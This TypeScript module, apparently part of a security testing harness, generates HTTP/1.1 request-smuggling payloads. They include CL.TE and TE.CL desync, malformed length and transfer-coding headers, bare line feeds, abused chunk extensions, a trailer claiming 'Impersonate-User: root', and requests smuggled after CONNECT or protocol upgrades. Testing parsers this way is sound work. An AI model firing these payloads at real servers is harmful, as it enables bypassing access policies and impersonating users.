// Where a request of HTTP/1.1 ends, said so that two parsers could part. `inner` is a request that the policy permits: it is
// part of a body, or comes after what must end the connection, and whoever reads it as a request was smuggled one.
import type { Shape } from '../attack.ts';
import { chunk, head, inner, shape, TE } from './print.ts';

/** Whoever reads no length in it takes the body for a request. */
const LENGTHS = [
  '-1',
  '+0',
  '0x0',
  '0, 0',
  '0 0',
  '0;',
  '٠',
  '',
  '99999999999999999999999',
  '1e3',
  '0.0',
  '\x0b0',
];
const CODINGS = [
  'xchunked',
  'chunked, identity',
  'identity, chunked',
  'chunked;q=1',
  '"chunked"',
  '\x0bchunked',
  'gzip, chunked',
  'chunked\x00',
  '',
];

export const FRAMING: Readonly<Record<string, Shape>> = {
  'CL.TE': shape((m) => `${head(m, ['Content-Length: 5', TE])}0\r\n\r\n${inner(m)}`),
  'TE.CL': shape((m) => `${head(m, [TE, 'Content-Length: 4'])}${chunk(inner(m))}0\r\n\r\n`),
  'TE with a space before its colon': shape(
    (m) => `${head(m, ['Content-Length: 0', 'Transfer-Encoding : chunked'])}${chunk(inner(m))}0\r\n\r\n`,
  ),
  'an odd transfer coding': shape(
    (m) => `${head(m, [`Transfer-Encoding: ${m.random.pick(CODINGS)}`])}${chunk(inner(m))}0\r\n\r\n`,
  ),
  'two transfer codings': shape(
    (m) => `${head(m, [TE, `Transfer-Encoding: ${m.random.pick(CODINGS)}`])}0\r\n\r\n${inner(m)}`,
  ),
  'an odd length': shape((m) => `${head(m, [`Content-Length: ${m.random.pick(LENGTHS)}`])}${inner(m)}`),
  'two lengths': shape(
    (m) => `${head(m, [`Content-Length: ${inner(m).length}`, 'Content-Length: 0'])}${inner(m)}`,
  ),
  'a body on a GET': shape(
    (m) => `${head(m, [`Content-Length: ${inner(m).length}`], `GET ${m.permitted} HTTP/1.1`)}${inner(m)}`,
  ),
  'chunks on a HEAD': shape(
    (m) => `${head(m, [TE], `HEAD ${m.permitted} HTTP/1.1`)}${chunk(inner(m))}0\r\n\r\n`,
  ),
  'a folded header': shape(
    (m) => `${head(m, ['X-A: b', ` ${TE}`, `Content-Length: ${inner(m).length + 5}`])}0\r\n\r\n${inner(m)}`,
  ),
  'a bare LF in a header': shape((m) => `${head(m, [`X-A: b\n\n${inner(m)}`])}`),
  'a bare LF after the head': shape((m) => `${head(m, ['X-A: b']).slice(0, -4)}\n\n${inner(m)}`),
  'chunk extensions': shape(
    (m) =>
      `${head(m, [TE])}${inner(m).length.toString(16)};${'x='.repeat(m.random.below(60_000))}\r\n${inner(m)}\r\n0\r\n\r\n`,
  ),
  'a chunk extension with a bare LF': shape((m) => `${head(m, [TE])}2;\nxx\r\n0\r\n\r\n${inner(m)}`),
  'a chunk of an odd size': shape(
    (m) =>
      `${head(m, [TE])}${m.random.pick(['-1', '0x2', 'ffffffffffffffffff', '2 ', 'g', '', '+0', '00000000000000000'])}\r\n${inner(m)}`,
  ),
  'trailers that decide': shape(
    (m) => `${head(m, [TE])}${chunk('{}')}0\r\nImpersonate-User: root\r\nContent-Length: 500\r\n\r\n`,
  ),
  'a request after an error': shape(
    (m) =>
      `${m.random.pick(['GET / HTTP/9.9\r\n\r\n', '\x00\x00', 'x\r\n\r\n', ' GET / HTTP/1.1\r\n\r\n'])}${inner(m)}`,
  ),
  'a request after a CONNECT': shape(
    (m) => `${head(m, [], 'CONNECT kubernetes.default.svc:443 HTTP/1.1')}${inner(m)}`,
  ),
  'a request after an upgrade': shape(
    (m) =>
      `${head(m, ['Connection: Upgrade', `Upgrade: ${m.random.pick(['websocket', 'SPDY/3.1', 'h2c', 'TLS/1.0'])}`, 'Content-Length: 5'])}01`,
  ),
};
